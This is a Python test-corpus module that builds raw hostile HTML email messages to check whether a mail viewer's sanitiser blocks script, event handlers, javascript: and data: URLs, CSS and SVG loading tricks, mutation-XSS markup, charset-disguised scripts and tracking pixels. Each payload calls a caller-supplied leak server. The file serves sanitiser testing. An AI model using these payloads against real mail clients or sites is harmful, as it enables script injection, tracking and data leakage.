"""A corpus of hostile HTML mail: one builder per payload, each a complete raw message.

Every payload tries to run script (``alert()``, ``fetch``), to make the browser load
``{leak}/leak/NAME`` (``leak`` is the base URL of a server that records hits), or to move the
page. Builders take that base URL and return the raw RFC 5322 bytes; ``PAYLOADS`` lists them
all in the order they are defined. Some are multipart/related with ``cid:`` images, some
multipart/alternative, some in charsets that try to hide markup.
"""

from __future__ import annotations

import base64
import quopri
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass


def _png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A real PNG of one colour (the browser decodes it, so a loaded image has a size)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    row = b"\x00" + bytes(rgb) * width
    return (b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(row * height))
            + chunk(b"IEND", b""))


PNG = _png(8, 8, (200, 30, 30))


@dataclass(frozen=True)
class Payload:
    """One hostile message: its name (also the leak path) and its builder."""

    name: str
    build: Callable[[str], bytes]


PAYLOADS: list[Payload] = []


def payload(build: Callable[[str], bytes]) -> Callable[[str], bytes]:
    """Register a builder in PAYLOADS under its function name."""
    PAYLOADS.append(Payload(build.__name__, build))
    return build


def _leak(leak: str, name: str, variant: str = "") -> str:
    return f"{leak}/leak/{name}" + (f"/{variant}" if variant else "")


def _js(leak: str, name: str) -> str:
    """Script that shows a dialog and makes a request (single quotes only)."""
    return f"alert(1);fetch('{_leak(leak, name, 'js')}')"


def _headers(subject: str, content_type: str, body: bytes) -> bytes:
    return (f"From: Mallory <mallory@example.net>\r\nTo: Bob <bob@example.org>\r\n"
            f"Subject: {subject}\r\nDate: Thu, 4 Mar 2021 10:30:00 +0000\r\n"
            f"Message-ID: <{zlib.crc32(body):08x}@example.net>\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: {content_type}\r\n").encode()


def html_message(html: str | bytes, *, subject: str = "hostile", charset: str | None = "utf-8",
                 encoding: str = "base64") -> bytes:
    """A single-part text/html message (body base64 or quoted-printable as asked, or the
    bytes as they are with ``8bit``)."""
    data = html.encode() if isinstance(html, str) else html
    content_type = "text/html" + (f"; charset={charset}" if charset else "")
    return (_headers(subject, content_type, data)
            + f"Content-Transfer-Encoding: {encoding}\r\n\r\n".encode()
            + _encoded(data, encoding))


def related_message(html: str, images: dict[str, tuple[str, bytes]], *,
                    subject: str = "hostile related") -> bytes:
    """multipart/related: the HTML, then one part per Content-ID (type, bytes)."""
    boundary = "rel-boundary-42"
    out = _headers(subject, f'multipart/related; boundary="{boundary}"; type="text/html"',
                   html.encode())
    out += f"\r\n--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n".encode()
    out += b"Content-Transfer-Encoding: base64\r\n\r\n" + _encoded(html.encode(), "base64")
    for content_id, (content_type, data) in images.items():
        out += (f"\r\n--{boundary}\r\nContent-Type: {content_type}\r\n"
                f"Content-ID: <{content_id}>\r\nContent-Disposition: inline\r\n"
                "Content-Transfer-Encoding: base64\r\n\r\n").encode()
        out += _encoded(data, "base64")
    return out + f"\r\n--{boundary}--\r\n".encode()


def alternative_message(text: str, html: str, *, subject: str = "hostile alternative") -> bytes:
    """multipart/alternative: a plain-text part, then the HTML part."""
    boundary = "alt-boundary-42"
    out = _headers(subject, f'multipart/alternative; boundary="{boundary}"', html.encode())
    for content_type, body in (("text/plain", text), ("text/html", html)):
        out += (f"\r\n--{boundary}\r\nContent-Type: {content_type}; charset=utf-8\r\n"
                "Content-Transfer-Encoding: base64\r\n\r\n").encode()
        out += _encoded(body.encode(), "base64")
    return out + f"\r\n--{boundary}--\r\n".encode()


def _encoded(data: bytes, encoding: str) -> bytes:
    if encoding == "base64":
        return base64.encodebytes(data).replace(b"\n", b"\r\n")
    if encoding == "quoted-printable":
        return quopri.encodestring(data).replace(b"\n", b"\r\n") + b"\r\n"
    return data + b"\r\n"


# --- script, plain and disguised ---------------------------------------------------------

@payload
def script_plain(leak: str) -> bytes:
    return html_message(f"<p>Hello</p><script>{_js(leak, 'script_plain')}</script>")


@payload
def script_uppercase(leak: str) -> bytes:
    return html_message(f"<P>Hi<SCRIPT type=text/javascript>{_js(leak, 'script_uppercase')}"
                        "</SCRIPT><ScRiPt>alert(2)</sCrIpT>")


@payload
def script_split(leak: str) -> bytes:
    return html_message(f"<scr<script>ipt>{_js(leak, 'script_split')}</scr</script>ipt>"
                        f"<scr<!-- -->ipt>{_js(leak, 'script_split')}</script>")


@payload
def script_src(leak: str) -> bytes:
    return html_message(f"<script src=\"{_leak(leak, 'script_src')}.js\"></script>"
                        f"<script type=module src=\"{_leak(leak, 'script_src', 'module')}\">"
                        "</script>")


@payload
def script_in_svg(leak: str) -> bytes:
    return html_message(f"<svg><script>{_js(leak, 'script_in_svg')}</script>"
                        f"<script href=\"{_leak(leak, 'script_in_svg', 'href')}\"/></svg>")


@payload
def script_in_mathml(leak: str) -> bytes:
    # The classic namespace-confusion shapes that fooled DOM sanitisers.
    return html_message(
        "<math><mtext><table><mglyph><style><img src=x "
        f"onerror=\"{_js(leak, 'script_in_mathml')}\"></style></mglyph></table></mtext></math>"
        f"<math><mi xlink:href=\"javascript:{_js(leak, 'script_in_mathml')}\">click</mi>"
        f"<maction actiontype=statusline><script>{_js(leak, 'script_in_mathml')}</script>"
        "</maction></math>")


# --- event handlers ------------------------------------------------------------------------

@payload
def handler_onerror(leak: str) -> bytes:
    return html_message(f"<img src=x onerror=\"{_js(leak, 'handler_onerror')}\">"
                        f"<img src=\"\" ONERROR=\"{_js(leak, 'handler_onerror')}\">")


@payload
def handler_onload(leak: str) -> bytes:
    return html_message(f"<body onload=\"{_js(leak, 'handler_onload')}\">"
                        f"<svg onload=\"{_js(leak, 'handler_onload')}\"></svg>"
                        f"<img src=\"data:image/png;base64,{base64.b64encode(PNG).decode()}\" "
                        f"onload=\"{_js(leak, 'handler_onload')}\"></body>")


@payload
def handler_onmouseover(leak: str) -> bytes:
    return html_message(
        f"<div onmouseover=\"{_js(leak, 'handler_onmouseover')}\" "
        "style=\"width: 100%; height: 400px\">move the mouse here</div>"
        f"<p onmouseenter=\"{_js(leak, 'handler_onmouseover')}\">and here</p>")


@payload
def handler_onfocus_autofocus(leak: str) -> bytes:
    return html_message(
        f"<input autofocus onfocus=\"{_js(leak, 'handler_onfocus_autofocus')}\">"
        f"<a href=\"#\" autofocus onfocus=\"{_js(leak, 'handler_onfocus_autofocus')}\">x</a>"
        f"<div tabindex=0 autofocus onfocusin=\"{_js(leak, 'handler_onfocus_autofocus')}\">"
        "</div>")


@payload
def handler_other(leak: str) -> bytes:
    js = _js(leak, "handler_other")
    return html_message(
        f"<details open ontoggle=\"{js}\"><summary>s</summary></details>"
        f"<marquee onstart=\"{js}\">m</marquee>"
        f"<svg><animate onbegin=\"{js}\" attributeName=x dur=1s></animate></svg>"
        f"<video><source onerror=\"{js}\"></video>"
        f"<style onload=\"{js}\"></style>")


# --- URLs that run or hide a document -----------------------------------------------------

@payload
def javascript_href(leak: str) -> bytes:
    js = _js(leak, "javascript_href")
    return html_message(
        f"<a href=\"javascript:{js}\" id=a1>plain</a>"
        f"<a href=\"JaVaScRiPt:{js}\">case</a>"
        f"<a href=\"jav&#x09;ascript:{js}\">tab</a>"
        f"<a href=\"&#106;&#97;vascript:{js}\">entities</a>"
        f"<a href=\" &#14; javascript:{js}\">control</a>"
        f"<area href=\"javascript:{js}\">")


@payload
def vbscript_href(leak: str) -> bytes:
    return html_message("<a href=\"vbscript:msgbox(1)\">vb</a>"
                        "<a href=\"VBScript:Execute(&quot;x&quot;)\">vb2</a>")


@payload
def data_html_href(leak: str) -> bytes:
    script = f"<script>{_js(leak, 'data_html_href')}</script>"
    encoded = base64.b64encode(script.encode()).decode()
    return html_message(f"<a href=\"data:text/html,{script}\">d</a>"
                        f"<a href=\"data:text/html;base64,{encoded}\">d64</a>"
                        f"<a href=\"data:image/svg+xml;base64,{encoded}\">svg</a>")


@payload
def form_action(leak: str) -> bytes:
    return html_message(
        f"<form action=\"{_leak(leak, 'form_action')}\" method=post>"
        "<input name=q value=secret><input type=submit autofocus></form>"
        f"<form action=\"javascript:{_js(leak, 'form_action')}\"><button>go</button></form>")


@payload
def forms_with_buttons(leak: str) -> bytes:
    return html_message(
        f"<form><button formaction=\"{_leak(leak, 'forms_with_buttons')}\">a</button>"
        f"<button formaction=\"javascript:{_js(leak, 'forms_with_buttons')}\">b</button>"
        f"<isindex action=\"{_leak(leak, 'forms_with_buttons', 'isindex')}\">"
        "<select><option>x</option></select><textarea>t</textarea></form>")


@payload
def iframe_src(leak: str) -> bytes:
    return html_message(
        f"<iframe src=\"{_leak(leak, 'iframe_src')}\"></iframe>"
        f"<iframe src=\"javascript:{_js(leak, 'iframe_src')}\"></iframe>"
        f"<iframe srcdoc=\"&lt;script&gt;{_js(leak, 'iframe_src')}&lt;/script&gt;\"></iframe>"
        f"<iframe src=\"data:text/html,&lt;script&gt;{_js(leak, 'iframe_src')}&lt;/script&gt;\">"
        "</iframe>")


@payload
def frameset(leak: str) -> bytes:
    return html_message(f"<frameset><frame src=\"{_leak(leak, 'frameset')}\"></frameset>"
                        f"<noframes><img src=\"{_leak(leak, 'frameset', 'noframes')}\">"
                        "</noframes>")


@payload
def object_embed_applet(leak: str) -> bytes:
    script = f"<script>{_js(leak, 'object_embed_applet')}</script>"
    return html_message(
        f"<object data=\"{_leak(leak, 'object_embed_applet', 'object')}\"></object>"
        f"<object data=\"data:text/html;base64,{base64.b64encode(script.encode()).decode()}\">"
        "</object>"
        f"<embed src=\"{_leak(leak, 'object_embed_applet', 'embed')}\">"
        f"<embed src=\"javascript:{_js(leak, 'object_embed_applet')}\">"
        f"<applet code=X.class codebase=\"{_leak(leak, 'object_embed_applet', 'applet')}\">"
        "</applet><portal src=\"" + _leak(leak, "object_embed_applet", "portal") + "\"></portal>")


# --- CSS ----------------------------------------------------------------------------------

@payload
def css_background_url(leak: str) -> bytes:
    return html_message(
        f"<div style=\"background: url({_leak(leak, 'css_background_url')}) red\">a</div>"
        f"<div style=\"background-image:url('{_leak(leak, 'css_background_url', '2')}')\">b</div>"
        f"<table><tr><td style=\"background:URL({_leak(leak, 'css_background_url', '3')})\">c"
        "</td></tr></table>")


@payload
def css_list_style_cursor(leak: str) -> bytes:
    return html_message(
        f"<ul style=\"list-style: url({_leak(leak, 'css_list_style_cursor')})\"><li>a</li></ul>"
        f"<ol style=\"list-style-image:url({_leak(leak, 'css_list_style_cursor', 'image')})\">"
        "<li>b</li></ol>"
        f"<p style=\"cursor: url({_leak(leak, 'css_list_style_cursor', 'cursor')}), auto; "
        "height: 300px\">hover</p>")


@payload
def css_import(leak: str) -> bytes:
    return html_message(
        f"<style>@import url({_leak(leak, 'css_import')});"
        f"@import '{_leak(leak, 'css_import', 'quoted')}';</style>"
        f"<p style=\"@import url({_leak(leak, 'css_import', 'inline')})\">x</p>")


@payload
def css_expression_behavior(leak: str) -> bytes:
    return html_message(
        f"<p style=\"width: expression({_js(leak, 'css_expression_behavior')})\">a</p>"
        f"<p style=\"behavior: url({_leak(leak, 'css_expression_behavior', 'htc')})\">b</p>"
        f"<p style=\"-moz-binding: url({_leak(leak, 'css_expression_behavior', 'xbl')})\">c</p>")


@payload
def css_escapes(leak: str) -> bytes:
    # \75 \72 \6c spell "url"; CSS escapes are read before the function name is.
    return html_message(
        f"<p style=\"background:\\75\\72\\6c({_leak(leak, 'css_escapes')})\">a</p>"
        f"<p style=\"background:u\\rl({_leak(leak, 'css_escapes', '2')})\">b</p>"
        f"<p style=\"background:/**/url({_leak(leak, 'css_escapes', '3')})\">c</p>")


@payload
def css_functions(leak: str) -> bytes:
    return html_message(
        f"<p style=\"background-image: image-set('{_leak(leak, 'css_functions')}' 1x)\">a</p>"
        f"<p style=\"--x: url({_leak(leak, 'css_functions', 'var')}); background: var(--x)\">"
        "b</p>"
        f"<p style=\"border-image: url({_leak(leak, 'css_functions', 'border')}) 30\">c</p>"
        f"<p style=\"mask: url({_leak(leak, 'css_functions', 'mask')})\">d</p>")


@payload
def css_style_block(leak: str) -> bytes:
    return html_message(
        f"<style>* {{ background: url({_leak(leak, 'css_style_block')}) }}"
        f"p::after {{ content: url({_leak(leak, 'css_style_block', 'content')}) }}</style>"
        "<p>text</p>")


@payload
def css_breakout(leak: str) -> bytes:
    return html_message(
        f"<p style=\"color:red;}}</style><script>{_js(leak, 'css_breakout')}</script>\">a</p>"
        f"<p style='color:\"red\"; background: url(\"{_leak(leak, 'css_breakout')}\")'>b</p>")


@payload
def link_stylesheet(leak: str) -> bytes:
    return html_message(f"<link rel=stylesheet href=\"{_leak(leak, 'link_stylesheet')}\">"
                        "<p>styled</p>")


@payload
def font_face(leak: str) -> bytes:
    return html_message(
        f"<style>@font-face {{ font-family: x; src: url({_leak(leak, 'font_face')}) }}"
        "p { font-family: x }</style><p>text in a remote font</p>"
        f"<p style=\"font-family: x; src: url({_leak(leak, 'font_face', 'inline')})\">b</p>")


# --- SVG ----------------------------------------------------------------------------------

@payload
def svg_foreign_object(leak: str) -> bytes:
    return html_message(
        "<svg><foreignObject width=100 height=100>"
        f"<iframe src=\"{_leak(leak, 'svg_foreign_object')}\"></iframe>"
        f"<img src=x onerror=\"{_js(leak, 'svg_foreign_object')}\">"
        "</foreignObject></svg>")


@payload
def svg_image_and_links(leak: str) -> bytes:
    return html_message(
        f"<svg><image href=\"{_leak(leak, 'svg_image_and_links')}\" width=10 height=10/>"
        f"<a xlink:href=\"javascript:{_js(leak, 'svg_image_and_links')}\"><text y=20>x</text>"
        f"</a><use href=\"{_leak(leak, 'svg_image_and_links', 'use')}#x\"/></svg>"
        f"<img src=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' "
        f"onload='{_js(leak, 'svg_image_and_links')}'/&gt;\">")


# --- the page itself: refresh, base, meta policy -------------------------------------------

@payload
def meta_refresh(leak: str) -> bytes:
    return html_message(
        f"<meta http-equiv=\"refresh\" content=\"0;url={_leak(leak, 'meta_refresh')}\">"
        f"<meta http-equiv=refresh content=\"0; URL=javascript:{_js(leak, 'meta_refresh')}\">"
        "<p>redirecting</p>")


@payload
def base_href(leak: str) -> bytes:
    return html_message(f"<base href=\"{_leak(leak, 'base_href')}/\" target=_top>"
                        "<img src=\"pixel.gif\"><a href=\"relative\">relative link</a>")


@payload
def meta_csp_override(leak: str) -> bytes:
    return html_message(
        "<meta http-equiv=\"Content-Security-Policy\" "
        "content=\"default-src *; script-src * 'unsafe-inline'; img-src *\">"
        f"<script>{_js(leak, 'meta_csp_override')}</script>"
        f"<img src=\"{_leak(leak, 'meta_csp_override')}\">")


@payload
def html_manifest(leak: str) -> bytes:
    return html_message(f"<html manifest=\"{_leak(leak, 'html_manifest')}\"><head>"
                        f"<title>t</title></head><body background=\"{_leak(leak, 'html_manifest')}"
                        "/bg\"><p>x</p></body></html>")


# --- remote images and tracking ------------------------------------------------------------

@payload
def remote_img(leak: str) -> bytes:
    secure = _leak(leak, "remote_img", "https").replace("http:", "https:")
    upper = _leak(leak, "remote_img", "upper").replace("http:", "HTTP:")
    return html_message(f"<p>Look:</p><img src=\"{_leak(leak, 'remote_img')}.png\" alt=pic>"
                        f"<img src=\"{secure}\"><img src=\"{upper}\">")


@payload
def remote_srcset(leak: str) -> bytes:
    return html_message(f"<img srcset=\"{_leak(leak, 'remote_srcset')} 1x, "
                        f"{_leak(leak, 'remote_srcset', '2x')} 2x\" alt=set>")


@payload
def remote_picture_source(leak: str) -> bytes:
    return html_message(f"<picture><source srcset=\"{_leak(leak, 'remote_picture_source')}\">"
                        f"<source media=\"(min-width: 1px)\" "
                        f"srcset=\"{_leak(leak, 'remote_picture_source', '2')}\">"
                        "<img alt=p></picture>")


@payload
def remote_background_attribute(leak: str) -> bytes:
    return html_message(
        f"<table background=\"{_leak(leak, 'remote_background_attribute')}\"><tr>"
        f"<td background=\"{_leak(leak, 'remote_background_attribute', 'td')}\">cell</td>"
        "</tr></table>")


@payload
def remote_input_image(leak: str) -> bytes:
    return html_message(f"<input type=image src=\"{_leak(leak, 'remote_input_image')}\">"
                        f"<img lowsrc=\"{_leak(leak, 'remote_input_image', 'lowsrc')}\" "
                        f"dynsrc=\"{_leak(leak, 'remote_input_image', 'dynsrc')}\">")


@payload
def remote_video_audio(leak: str) -> bytes:
    return html_message(
        f"<video poster=\"{_leak(leak, 'remote_video_audio', 'poster')}\" autoplay>"
        f"<source src=\"{_leak(leak, 'remote_video_audio', 'source')}\">"
        f"<track src=\"{_leak(leak, 'remote_video_audio', 'track')}\"></video>"
        f"<audio src=\"{_leak(leak, 'remote_video_audio', 'audio')}\" autoplay></audio>")


@payload
def tracking_pixel(leak: str) -> bytes:
    return html_message(
        "<p>Newsletter</p>"
        f"<img src=\"{_leak(leak, 'tracking_pixel')}?u=bob%40example.org\" width=1 height=1 "
        "border=0 style=\"display: block; height: 1px; width: 1px\">")


@payload
def protocol_relative(leak: str) -> bytes:
    return html_message(f"<img src=\"{_leak(leak, 'protocol_relative').split(':', 1)[1]}\">"
                        f"<a href=\"{_leak(leak, 'protocol_relative').split(':', 1)[1]}\">l</a>")


@payload
def link_prefetch(leak: str) -> bytes:
    host = _leak(leak, "link_prefetch").split("/")[2]
    return html_message(
        f"<link rel=prefetch href=\"{_leak(leak, 'link_prefetch', 'prefetch')}\">"
        f"<link rel=dns-prefetch href=\"//{host}\">"
        f"<link rel=preconnect href=\"{leak}\">"
        f"<link rel=preload as=image href=\"{_leak(leak, 'link_prefetch', 'preload')}\">"
        f"<link rel=icon href=\"{_leak(leak, 'link_prefetch', 'icon')}\">"
        "<p>x</p>")


@payload
def a_ping(leak: str) -> bytes:
    return html_message(f"<a href=\"https://example.org/\" ping=\"{_leak(leak, 'a_ping')}\" "
                        "id=pinged>read more</a>")


# --- navigation ----------------------------------------------------------------------------

@payload
def a_target_top(leak: str) -> bytes:
    return html_message(
        f"<a href=\"{_leak(leak, 'a_target_top')}\" target=\"_top\" id=top>top</a>"
        f"<a href=\"{_leak(leak, 'a_target_top', 'parent')}\" target=\"_parent\">parent</a>"
        f"<a href=\"{_leak(leak, 'a_target_top', 'self')}\" target=\"_self\">self</a>")


@payload
def window_name(leak: str) -> bytes:
    # A named target that is not _blank would reach a window by name; an iframe named like
    # the archive's window tries to catch navigations aimed at it.
    return html_message(
        f"<iframe name=\"archive\" src=\"{_leak(leak, 'window_name', 'frame')}\"></iframe>"
        f"<a href=\"{_leak(leak, 'window_name')}\" target=\"archive\">named</a>"
        f"<a href=\"javascript:{_js(leak, 'window_name')}\" target=\"_top\">js top</a>"
        f"<form target=\"archive\" action=\"{_leak(leak, 'window_name', 'form')}\"></form>")


@payload
def clickjack_overlay(leak: str) -> bytes:
    return html_message(
        f"<a href=\"{_leak(leak, 'clickjack_overlay')}\" style=\"position: fixed; top: 0; "
        "left: 0; width: 100%; height: 100%; z-index: 99999; opacity: 0\">invisible</a>")


# --- markup that browsers repair -----------------------------------------------------------

@payload
def malformed_unclosed(leak: str) -> bytes:
    js = _js(leak, "malformed_unclosed")
    return html_message(f"<div><table><tr><td><p><b><i>unclosed<img src=x onerror=\"{js}\">"
                        f"<a href=\"javascript:{js}\"<p>broken attribute</a")


@payload
def malformed_img_eof(leak: str) -> bytes:
    return html_message(f"<p>text</p><img src=x onerror=alert(1);fetch('{leak}/leak/eof')//")


@payload
def malformed_attribute_quotes(leak: str) -> bytes:
    js = _js(leak, "malformed_attribute_quotes")
    return html_message(f"<img src=\"x\"onerror=\"{js}\"><img src=x/onerror={js}>"
                        f"<img/src=x/onerror={js}><img src=`x` onerror=`{js}`>"
                        f"<img src=\"x\" title=\"a\"\" onerror=\"{js}\">")


@payload
def malformed_comments(leak: str) -> bytes:
    js = _js(leak, "malformed_comments")
    return html_message(f"<!--><script>{js}</script>-->"
                        f"<!-- --!><img src=x onerror=\"{js}\"> -->"
                        f"<!--[if gte mso 9]><script>{js}</script><![endif]-->"
                        f"<!---><img src=x onerror=\"{js}\">")


@payload
def malformed_cdata(leak: str) -> bytes:
    js = _js(leak, "malformed_cdata")
    return html_message(f"<![CDATA[<script>{js}</script>]]>"
                        f"<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=\"{js}\">"
                        "\"></svg>")


@payload
def malformed_nested_tables(leak: str) -> bytes:
    js = _js(leak, "malformed_nested_tables")
    depth = 60
    return html_message("<table><tr><td>" * depth + f"<img src=x onerror=\"{js}\">"
                        + "</td></tr></table>" * (depth // 2)
                        + f"<tr><td><script>{js}</script>")


@payload
def mxss_noscript(leak: str) -> bytes:
    js = _js(leak, "mxss_noscript")
    return html_message(f"<noscript><p title=\"</noscript><img src=x onerror={js}>\"></noscript>"
                        f"<noscript><style></noscript><img src=x onerror=\"{js}\"></style>")


@payload
def mxss_svg_style(leak: str) -> bytes:
    js = _js(leak, "mxss_svg_style")
    return html_message(f"<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">"
                        f"<svg><style><img src=x onerror=\"{js}\"></style></svg>")


@payload
def template_content(leak: str) -> bytes:
    js = _js(leak, "template_content")
    return html_message(f"<template><script>{js}</script><img src=x onerror=\"{js}\">"
                        f"</template><template shadowrootmode=open><img src=x onerror=\"{js}\">"
                        "</template>")


@payload
def dialog_open(leak: str) -> bytes:
    js = _js(leak, "dialog_open")
    return html_message(f"<dialog open><form method=dialog><button autofocus onfocus=\"{js}\">"
                        "ok</button></form></dialog><dialog open onclose=\"" + js + "\">d"
                        "</dialog>")


# --- charsets ------------------------------------------------------------------------------

@payload
def charset_utf7(leak: str) -> bytes:
    js = _js(leak, "charset_utf7")
    return html_message(f"+ADw-script+AD4-{js}+ADw-/script+AD4-".encode(), charset="utf-7",
                        encoding="8bit")


@payload
def charset_meta_utf7(leak: str) -> bytes:
    # No charset in MIME; the document names UTF-7 itself, hoping the reader decodes it.
    js = _js(leak, "charset_meta_utf7")
    return html_message(f"<meta charset=\"utf-7\">+ADw-script+AD4-{js}+ADw-/script+AD4-"
                        .encode(), charset=None, encoding="8bit")


@payload
def charset_lie(leak: str) -> bytes:
    # Declared ASCII, sent as UTF-16: a reader that guesses may see a script the sanitiser
    # did not.
    js = _js(leak, "charset_lie")
    return html_message(f"<script>{js}</script><img src=x onerror=\"{js}\">"
                        .encode("utf-16"), charset="us-ascii", encoding="base64")


@payload
def charset_invalid_bytes(leak: str) -> bytes:
    js = _js(leak, "charset_invalid_bytes")
    return html_message(b"<p>\xff\xfe\xc0\xbc</p><scr\xc0ipt>" + js.encode()
                        + b"</script>\xc0<img src=x onerror=\"" + js.encode() + b"\">",
                        charset="utf-8", encoding="8bit")


@payload
def quoted_printable_script(leak: str) -> bytes:
    return html_message(f"<script>{_js(leak, 'quoted_printable_script')}</script>"
                        "<a href=3D\"javascript:alert(1)\">qp</a>",
                        encoding="quoted-printable")


# --- multipart: cid images and parts that pretend --------------------------------------------

@payload
def cid_image_with_handler(leak: str) -> bytes:
    return related_message(
        f"<p>Logo:</p><img src=\"cid:logo@example.net\" onerror=\"{_js(leak, 'cid_image')}\" "
        f"onload=\"{_js(leak, 'cid_image')}\" alt=logo>",
        {"logo@example.net": ("image/png", PNG)})


@payload
def cid_points_at_html(leak: str) -> bytes:
    # A cid: reference to a part that is not an image: never served as the image's source.
    script = f"<script>{_js(leak, 'cid_points_at_html')}</script>"
    return related_message(
        "<img src=\"cid:page@example.net\"><iframe src=\"cid:page@example.net\"></iframe>"
        "<a href=\"cid:page@example.net\">part</a><img src=\"cid:missing@example.net\">",
        {"page@example.net": ("text/html", script.encode())})


@payload
def cid_and_remote_mixed(leak: str) -> bytes:
    return related_message(
        f"<img src=\"CID:Logo%40Example.NET\"><img src=\"{_leak(leak, 'cid_and_remote_mixed')}\">"
        f"<div style=\"background: url(cid:logo@example.net)\">bg</div>",
        {"logo@example.net": ("image/png", PNG)})


@payload
def alternative_hostile_html(leak: str) -> bytes:
    return alternative_message("The plain text is harmless.",
                               f"<p>HTML</p><script>{_js(leak, 'alternative')}</script>"
                               f"<img src=\"{_leak(leak, 'alternative')}\">")
